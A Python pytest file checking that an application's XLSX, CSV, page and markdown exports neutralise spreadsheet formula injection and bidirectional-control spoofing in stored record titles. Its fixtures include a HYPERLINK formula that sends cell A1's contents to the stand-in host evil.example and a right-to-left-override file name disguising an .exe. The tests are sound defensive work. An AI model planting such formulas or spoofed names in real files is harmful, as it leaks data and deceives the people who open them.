"""Hostile text in stored records: a formula never becomes live in a spreadsheet or CSV,
and bidirectional controls never reorder what a person reads (pages, reports, CLI)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from analysis import report
from api.app import create_app
from api.settings import Settings
from graph.curation import repository as curation
from graph.nodes import repository as nodes
from graph.store import GraphStore
from schema.models import Topic, WorkingGroup
from schema.records import InitiativeRecord
from schema.text import cell_text, visible
from tests import factories as f
from tests.support.units import system

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
BIDI = "Invoice \u202egnp.exe"


@pytest.fixture
def hostile(store: GraphStore) -> GraphStore:
    nodes.save(store, [f.working_group("wg6")], model=WorkingGroup)
    nodes.save(store, [f.topic("sbom")], model=Topic)
    for id, title in (("formula", FORMULA), ("bidi", BIDI), ("minus", "-1 then a text")):
        record = {"id": id, "title": title, "language": "en", "working_groups": ["wg6"],
                  "topics": ["sbom"]}  # fmt: skip
        curation.create_initiative(
            system(store), InitiativeRecord.model_validate(record), now=datetime.now(UTC)
        )
    return store


def test_the_xlsx_report_writes_every_title_as_text(hostile: GraphStore, tmp_path: Path) -> None:
    data = report.build(hostile, "wg6")
    path = tmp_path / "report.xlsx"
    path.write_bytes(report.to_xlsx(data))
    sheet = load_workbook(path)["Initiatives"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells["formula"].data_type == "s"
    # a text cell: shown as written, never evaluated, no apostrophe in front
    assert cells["formula"].value == FORMULA
    assert cells["bidi"].value == "Invoice [U+202E]gnp.exe"
    assert cells["minus"].value == "-1 then a text" and cells["minus"].data_type == "s"
    # no cell anywhere in the workbook holds a formula
    book = load_workbook(path)
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)


def test_csv_cells_neutralise_formulas_and_bidi_controls() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell_text(v) for v in (FORMULA, "@SUM(A1)", "+1", BIDI, "ok")])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + FORMULA, "'@SUM(A1)", "'+1", "Invoice [U+202E]gnp.exe", "ok"]


def test_pages_and_markdown_show_bidi_controls_as_markers(hostile: GraphStore) -> None:
    with TestClient(create_app(Settings(), store=hostile)) as client:
        page = client.get("/wg/wg6").text
    assert "\u202e" not in page
    assert "Invoice [U+202E]gnp.exe" in page
    markdown = report.to_markdown(report.build(hostile, "wg6"))
    # the marker's brackets are escaped like any bracket of stored text (see md_text)
    assert "\u202e" not in markdown and "Invoice \\[U+202E\\]gnp.exe" in markdown
    assert visible("a\u2066b\u2069c") == "a[U+2066]b[U+2069]c"


def test_the_api_still_returns_stored_text_byte_for_byte(hostile: GraphStore) -> None:
    with TestClient(create_app(Settings(), store=hostile)) as client:
        body = client.post("/graphql", json={"query": '{ initiative(id: "bidi") { title } }'})
    assert body.json()["data"]["initiative"]["title"] == BIDI
